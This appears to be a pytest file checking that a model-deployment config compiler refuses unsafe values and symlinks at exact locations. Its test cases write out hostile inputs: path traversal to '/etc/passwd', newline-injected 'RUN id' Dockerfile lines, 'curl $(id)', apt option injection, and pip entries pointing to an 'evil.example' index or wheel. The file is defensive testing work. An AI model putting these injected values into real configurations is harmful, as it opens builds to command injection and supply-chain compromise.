"""Issue 13, items 2, 3, 4, 6, 7, 8, 9: each hole, refused at its exact position with what was expected and a hint."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from compiler.diagnostics import Diagnostic, DiagnosticError, Location
from compiler.pipeline import compile_repo
from compiler.render import render_graph
from compiler.targets import TARGET_TYPES

from probe_repo import DOCUMENTS, get, replaced, write

PROJECT = Path(__file__).resolve().parents[2]


def _set(path: str, value, file: str | None = None, docs: dict | None = None) -> dict:
    """DOCUMENTS with one field (dotted path, integers as list indices) set; `file` defaults to the kind's file."""
    docs = docs or DOCUMENTS
    steps = tuple(int(p) if p.isdigit() else p for p in path.split("."))
    if steps[:2] == ("spec", "baseImages"):  # the key itself holds dots
        steps = ("spec", "baseImages", ".".join(steps[2:]))
    return replaced(docs, file, steps, "value", value)


def _errors(root: Path) -> list[Diagnostic]:
    return [d for d in compile_repo(root).diagnostics if d.severity == "error"]


def _one(root: Path, file: str, path: str) -> Diagnostic:
    """The error at `path` of `file`, checked to be the only error of the repo (no follow-on)."""
    errors = _errors(root)
    assert len(errors) == 1, [d.headline() for d in errors]
    d = errors[0]
    assert (d.location.file, d.path) == (file, path), d.headline()
    assert d.location.line >= 1 and d.expected and d.suggestion, d
    return d


def _line_of(root: Path, file: str, needle: str) -> int:
    lines = (root / file).read_text().splitlines()
    return next(i for i, line in enumerate(lines, 1) if needle in line)


# -- item 2: secretEnv.key is a name inside the secret, never a path -----------------------------


@pytest.mark.parametrize(
    "key,hint",
    [
        ("../../../../../outside.txt", "use 'outside.txt'"),
        ("/etc/passwd", "use 'passwd'"),
        ("..", "e.g. 'api-key'"),
        (".", "e.g. 'api-key'"),
        ("sub/dir/key", "use 'key'"),
    ],
)
def test_secret_env_key_is_a_name_not_a_path(tmp_path, key, hint):
    outside = tmp_path / "outside.txt"
    outside.write_text("HOST FILE CONTENT\n")
    root = write(
        tmp_path / "a" / "b" / "c" / "d" / "repo", _set("spec.secretEnv.DB_PASSWORD.key", key, "deployments/dock.yaml")
    )
    d = _one(root, "deployments/dock.yaml", "spec.secretEnv.DB_PASSWORD.key")
    assert d.location.line == _line_of(root, "deployments/dock.yaml", '"key":')
    assert d.message == f"invalid value string {key!r} for 'key'"
    assert "a key inside the secret" in d.expected and hint in d.suggestion


# -- item 3: MODELCTL_* is the runtime's own, in every env map -----------------------------------


@pytest.mark.parametrize(
    "file,path",
    [
        ("deployments/dock.yaml", ("spec", "env")),
        ("deployments/kube.yaml", ("spec", "env")),
        ("deployments/dock.yaml", ("spec", "secretEnv")),
        ("envs/base.yaml", ("spec", "env")),
        ("deployments/edge.yaml", ("spec", "edge", "modules", "camera", "env")),
    ],
)
@pytest.mark.parametrize("name", ["MODELCTL_AUTH_MODE", "modelctl_auth_keys_file"])
def test_user_env_cannot_set_runtime_settings(tmp_path, file, path, name):
    docs = json.loads(json.dumps(DOCUMENTS))
    env = get(docs[file], path)
    env[name] = next(iter(env.values()))
    if path[-1] == "env" and file == "deployments/dock.yaml":
        env[name] = "none"
    root = write(tmp_path / "repo", docs)
    d = _one(root, file, ".".join(path + (name,)))
    assert d.location.line == _line_of(root, file, f'"{name}":')
    assert d.message.startswith(f"environment variable '{name}' is reserved")
    assert d.expected == "a name that does not start with MODELCTL_"


# -- item 4: every value that reaches a Dockerfile, requirements or a manifest has its grammar ----

GRAMMAR_CASES = [
    # (file, dotted path, hostile value, expected-substring)
    ("envs/base.yaml", "spec.apt.0", "curl $(id)", "a Debian package name"),
    ("envs/base.yaml", "spec.apt.0", "libgomp1\nRUN id", "a Debian package name"),
    ("envs/base.yaml", "spec.apt.0", "-o=APT::Update::Pre-Invoke::=id", "a Debian package name"),
    ("envs/base.yaml", "spec.base", "python:3.11-slim\nRUN id", "an image reference"),
    ("modelctl.yaml", "spec.baseImages.python:3.11-slim", "evil\nRUN id", "an image reference"),
    ("modelctl.yaml", "spec.imageRegistry", "127.0.0.1:5000/team\nRUN id", "a registry"),
    ("images/pre.yaml", "spec.prebuilt", "pre:1 --privileged", "an image reference"),
    ("deployments/edge.yaml", "spec.edge.modules.camera.image", "cam:1\nx", "an image reference"),
    ("envs/base.yaml", "spec.pip.0", "--index-url http://evil.example/simple", "a PEP 508 requirement"),
    ("envs/base.yaml", "spec.pip.0", "-e git+https://evil.example/x.git", "a PEP 508 requirement"),
    ("envs/base.yaml", "spec.pip.0", "{{ 7*7 }}", "a PEP 508 requirement"),
    ("envs/base.yaml", "spec.pip.0", "numpy==2.4.6\n--extra-index-url http://evil.example", "a PEP 508 requirement"),
    ("envs/base.yaml", "spec.pip.0", "evil @ https://evil.example/evil-1.0.whl", "a PEP 508 requirement"),
    ("envs/base.yaml", "spec.pip.0", "numpy==2.4.6 --hash=sha256:00", "a PEP 508 requirement"),
    ("envs/base.yaml", "spec.pip.0", "numpy; python_version > '${HOME}'", "a PEP 508 requirement"),
    ("envs/base.yaml", "spec.env.GREETING", "hello\nRUN id", "one line of text"),
    ("modelctl.yaml", "spec.targets.prod.namespace", "models\nkind: Secret", "a name of lower-case letters"),
    ("modelctl.yaml", "spec.targets.prod.gateway", "gw/x\ny", "a Gateway"),
    ("endpoints/web.yaml", "spec.hostnames.0", "https://probe.example.com:443/", "a DNS host name"),
    ("deployments/kube.yaml", "metadata.labels.env", "prod\nrole: admin", "a Kubernetes label value"),
    ("deployments/kube.yaml", "spec.dataCollection.sink", "file:///data:/host:rw", "file:///ABSOLUTE/FOLDER"),
]


@pytest.mark.parametrize("file,path,value,expected", GRAMMAR_CASES, ids=[f"{c[1]}={c[2]!r}" for c in GRAMMAR_CASES])
def test_values_are_checked_against_their_grammar(tmp_path, file, path, value, expected):
    root = write(tmp_path / "repo", _set(path, value, file))
    d = _one(root, file, path)
    assert expected in d.expected, d


def test_env_name_with_a_newline_is_refused_at_the_key(tmp_path):
    docs = json.loads(json.dumps(DOCUMENTS))
    docs["envs/base.yaml"]["spec"]["env"]["A\nRUN id"] = "1"
    root = write(tmp_path / "repo", docs)
    d = _one(root, "envs/base.yaml", "spec.env.A\\nRUN id")
    assert d.message == "invalid key string 'A\\nRUN id' in 'env'" and d.suggestion == "use 'A_RUN_ID'"
    assert "\n" not in d.headline()
    assert d.location.line == _line_of(root, "envs/base.yaml", '"A\\nRUN id"')


def test_label_keys_of_modelctl_are_reserved(tmp_path):
    docs = json.loads(json.dumps(DOCUMENTS))
    docs["deployments/dock.yaml"]["metadata"]["labels"]["modelctl.io/managed-by"] = "someone-else"
    root = write(tmp_path / "repo", docs)
    d = _one(root, "deployments/dock.yaml", "metadata.labels.modelctl.io/managed-by")
    assert "reserved prefix" in d.message


def test_hostile_but_valid_values_are_quoted_in_the_dockerfile(tmp_path):
    value = 'a "q" \\ $(id) `id` ${HOME} \'s'
    docs = _set("spec.env.GREETING", value, "envs/base.yaml")
    docs = _set("metadata.description", "line one\nRUN id\n\\", "images/scorer.yaml", docs)
    root = write(tmp_path / "repo", docs)
    render_graph(compile_repo(root).require(), tmp_path / "out", types=TARGET_TYPES)
    text = (tmp_path / "out" / "images" / "scorer" / "Dockerfile").read_text()
    assert 'ENV GREETING="a \\"q\\" \\\\ \\$(id) `id` \\${HOME} \'s"' in text
    assert "\nRUN id" not in text
    assert 'LABEL org.opencontainers.image.description="line one\\nRUN id\\n\\\\"' in text


def test_the_renderer_refuses_what_validation_would_have(tmp_path):
    """Second line of defence: a spec built without validation still cannot add a Dockerfile line."""
    from compiler.render import docker
    from compiler.spec.environment import EnvironmentSpec

    root = write(tmp_path / "repo", DOCUMENTS)
    graph = compile_repo(root).require()
    image = graph.get("Image/scorer")
    env = graph.get(image.environment_id)
    for bad in ({"base": "x\nRUN id"}, {"apt": ["a;id"]}, {"env": {"A\nRUN id": "1"}}, {"pip": ["--index-url x"]}):
        spec = EnvironmentSpec.model_construct(**{**dict(env.spec), **bad})
        node = type(env)(**{**env.__dict__, "spec": spec})
        with pytest.raises(DiagnosticError) as err:
            docker.dockerfile_words(graph, image, node, [])
            docker._requirements(node)
        assert err.value.diagnostics[0].code == "render-unsafe"


# -- item 6: model paths never copy the repo root, .git or .modelctl ----------------------------------


@pytest.mark.parametrize(
    "path",
    [
        ".",
        "./",
        "artifacts/..",
        ".modelctl/secrets/keys",
        ".modelctl/secrets",
        ".git/config",
        "artifacts/../.modelctl/secrets/db/password",
    ],
)
def test_model_path_may_not_be_private(tmp_path, path):
    root = write(tmp_path / "repo", _set("spec.path", path, "models/m.yaml"))
    (root / ".git").mkdir(exist_ok=True)
    (root / ".git" / "config").write_text("[core]\n")
    d = _one(root, "models/m.yaml", "spec.path")
    assert d.code == "private-path" and "never copied" in d.suggestion or "secrets are referenced" in d.suggestion


@pytest.mark.parametrize("layout", ["file-link", "dir-link", "link-in-folder", "git-in-folder", "root-link"])
def test_symlinks_and_folders_cannot_reach_private_files(tmp_path, layout):
    root = write(tmp_path / "repo", _set("spec.path", "artifacts/model", "models/m.yaml"))
    model = root / "artifacts" / "model"
    if layout == "file-link":
        model.symlink_to(root / ".modelctl" / "secrets" / "keys")
    elif layout == "dir-link":
        model.symlink_to(root / ".modelctl" / "secrets", target_is_directory=True)
    else:
        model.mkdir()
        (model / "weights.json").write_text("{}")
        if layout == "link-in-folder":
            (model / "extra").symlink_to(root / ".modelctl" / "secrets" / "keys")
        elif layout == "git-in-folder":
            (model / ".git").mkdir()
        else:
            (model / "up").symlink_to(root, target_is_directory=True)
    d = _one(root, "models/m.yaml", "spec.path")
    assert d.code == "private-path", d


def test_scoring_script_may_not_be_a_secret(tmp_path):
    root = write(tmp_path / "repo", _set("spec.scoring.script", ".modelctl/secrets/keys", "images/scorer.yaml"))
    _one(root, "images/scorer.yaml", "spec.scoring.script")


# -- item 7: a YAML symlink leading out of the repo is refused unread ------------------------------------


@pytest.mark.parametrize("where", ["outside", "private"])
def test_symlinked_yaml_outside_the_repo_is_not_read(tmp_path, where):
    secret = "TOP-SECRET-HOST-CONTENT"
    outside = tmp_path / "outside.yaml"
    outside.write_text(f"apiVersion: modelctl.io/v1\nkind: {secret}\nmetadata: {{name: {secret.lower()}}}\n")
    root = write(tmp_path / "repo", DOCUMENTS)
    if where == "private":
        shutil.copy(outside, root / ".modelctl" / "x.yaml")
        (root / "models" / "link.yaml").symlink_to(root / ".modelctl" / "x.yaml")
    else:
        (root / "models" / "link.yaml").symlink_to(outside)
    result = subprocess.run(
        [sys.executable, "-m", "compiler.cli.main", "validate", str(root)],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(PROJECT)},
    )
    assert result.returncode == 1
    assert secret not in result.stdout + result.stderr and secret.lower() not in result.stdout + result.stderr
    assert "models/link.yaml: error: this YAML file is a symlink" in result.stdout, result.stdout
    errors = _errors(root)
    assert [d.code for d in errors] == ["symlink-escape"]


# -- item 8: validate --format json writes JSON directly -------------------------------------------------


def test_json_output_does_not_go_through_rich(monkeypatch, capsys):
    from rich.console import Console

    from compiler.cli.output import Format, print_diagnostics

    def refuse(*_a, **_k):
        raise AssertionError("print_json highlights and wraps every token: 13 s for 20,000 diagnostics")

    monkeypatch.setattr(Console, "print_json", refuse)
    diags = [
        Diagnostic(
            f"unknown field 'x{i}' ✓",
            Location("models/m.yaml", i + 1, 3),
            path="spec.x",
            expected="one of: a, b",
            suggestion="remove it",
            code="extra_forbidden",
        )
        for i in range(20_000)
    ]
    start = time.perf_counter()
    print_diagnostics(diags, Format.json, Console(), "repo")
    elapsed = time.perf_counter() - start
    data = json.loads(capsys.readouterr().out)
    assert len(data["diagnostics"]) == 20_000 and data["diagnostics"][5]["file"] == "repo/models/m.yaml"
    assert data["diagnostics"][0]["message"] == "unknown field 'x0' ✓"
    assert elapsed < 2.0, f"{elapsed:.1f} s to print 20,000 diagnostics as JSON"


# -- item 9: the smaller ones ---------------------------------------------------------------------------


def test_nul_in_a_path_is_a_located_error_not_an_internal_error(tmp_path):
    root = write(tmp_path / "repo", _set("spec.path", "artifacts/m\0.json", "models/m.yaml"))
    result = subprocess.run(
        [sys.executable, "-m", "compiler.cli.main", "validate", str(root)],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(PROJECT)},
    )
    assert result.returncode == 1 and "internal error" not in result.stdout + result.stderr
    line = _line_of(root, "models/m.yaml", '"path": "artifacts')
    assert f"models/m.yaml:{line}:" in result.stdout and "control character U+0000 (NUL)" in result.stdout


@pytest.mark.parametrize(
    "file,path,value,message",
    [
        ("deployments/dock.yaml", "spec.replicas", 1_000_000, "less than or equal to 1000"),
        ("deployments/kube.yaml", "spec.autoscale.max", 100_000, "less than or equal to 1000"),
        ("modelctl.yaml", "spec.targets.local.portRange.0", 70_000, "less than or equal to 65535"),
        ("modelctl.yaml", "spec.targets.local.portRange.1", -5, "greater than or equal to 1"),
        ("deployments/dock.yaml", "spec.resources.memory", "0", "below the minimum of 6Mi"),
        ("deployments/dock.yaml", "spec.resources.memory", "512m", "invalid value string '512m'"),
        ("deployments/dock.yaml", "spec.resources.cpu", "0", "is zero"),
        ("deployments/dock.yaml", "spec.resources.cpu", "2k", "invalid value string '2k'"),
        ("modelctl.yaml", "spec.targets.local.bindAddress", "everywhere", "is not an IP address"),
        ("modelctl.yaml", "spec.targets.local.bindAddress", "127.0.0.1;listen 80", "is not an IP address"),
    ],
)
def test_nonsense_values_are_refused(tmp_path, file, path, value, message):
    root = write(tmp_path / "repo", _set(path, value, file))
    d = _one(root, file, path)
    assert message in d.message, d


def test_port_range_must_be_ordered(tmp_path):
    root = write(tmp_path / "repo", _set("spec.targets.local.portRange", [19000, 18000], "modelctl.yaml"))
    d = _one(root, "modelctl.yaml", "spec.targets.local.portRange")
    assert d.suggestion == "write [18000, 19000]"


def test_one_bad_workspace_field_is_one_error(tmp_path):
    """Not also an 'unknown target' at every deployment and endpoint."""
    root = write(tmp_path / "repo", _set("spec.registry", 5, "modelctl.yaml"))
    _one(root, "modelctl.yaml", "spec.registry")


def test_a_broken_target_is_not_reported_again_at_its_users(tmp_path):
    docs = _set("spec.targets.local.bindAddress", "everywhere", "modelctl.yaml")
    docs = _set("spec.image", "scorr", "deployments/kube.yaml", docs)  # a deployment on a valid target is still checked
    errors = _errors(write(tmp_path / "repo", docs))
    assert [(d.location.file, d.path) for d in errors] == [
        ("deployments/kube.yaml", "spec.image"),
        ("modelctl.yaml", "spec.targets.local.bindAddress"),
    ], errors


def test_a_target_missing_from_a_broken_workspace_is_still_unknown(tmp_path):
    docs = _set("spec.registry", 5, "modelctl.yaml")
    docs = _set("spec.target", "lcoal", "deployments/dock.yaml", docs)
    errors = _errors(write(tmp_path / "repo", docs))
    assert [d.message for d in errors if d.location.file == "deployments/dock.yaml"] == [
        "unknown target 'lcoal': it is not in the Workspace's targets"
    ]


@pytest.mark.parametrize("example", ["iris", "edge-vision"])
def test_examples_ignore_their_secrets(tmp_path, example):
    repo = tmp_path / example
    shutil.copytree(
        PROJECT / "examples" / example, repo, ignore=shutil.ignore_patterns(".modelctl", "out")
    )  # as in git
    (repo / ".modelctl" / "secrets").mkdir(parents=True)
    (repo / ".modelctl" / "secrets" / "iris-keys").write_text("k\n")
    git = ["git", "-C", str(repo), "-c", "user.email=t@example.com", "-c", "user.name=t"]
    subprocess.run(git + ["init", "-q"], check=True)
    subprocess.run(git + ["add", "-A"], check=True)
    staged = subprocess.run(
        git + ["diff", "--cached", "--name-only"], capture_output=True, text=True, check=True
    ).stdout
    assert ".gitignore" in staged and not [f for f in staged.splitlines() if f.startswith(".modelctl/")]


def test_init_writes_a_gitignore_for_secrets(tmp_path):
    from compiler.scaffold import scaffold

    scaffold(tmp_path / "new")
    assert ".modelctl/" in (tmp_path / "new" / ".gitignore").read_text().splitlines()


def test_grammar_patterns_agree_between_pydantic_and_python():
    """The renderers re-check with Python's re what pydantic checked with Rust's regex."""
    from compiler.spec import grammar

    assert grammar.matches(grammar.IMAGE_REFERENCE_PATTERN, "127.0.0.1:5000/team/x:1@sha256:" + "a" * 64)
    assert grammar.matches(grammar.IMAGE_REFERENCE_PATTERN, "python:3.11-slim")
    assert not grammar.matches(grammar.IMAGE_REFERENCE_PATTERN, "python:3.11-slim\n")
    assert not grammar.matches(grammar.ENV_NAME_PATTERN, "A\n")
    assert grammar.matches(grammar.DEBIAN_PACKAGE_PATTERN, "libstdc++6:amd64=12.2.0-14")
    assert not grammar.matches(grammar.DEBIAN_PACKAGE_PATTERN, "-y")
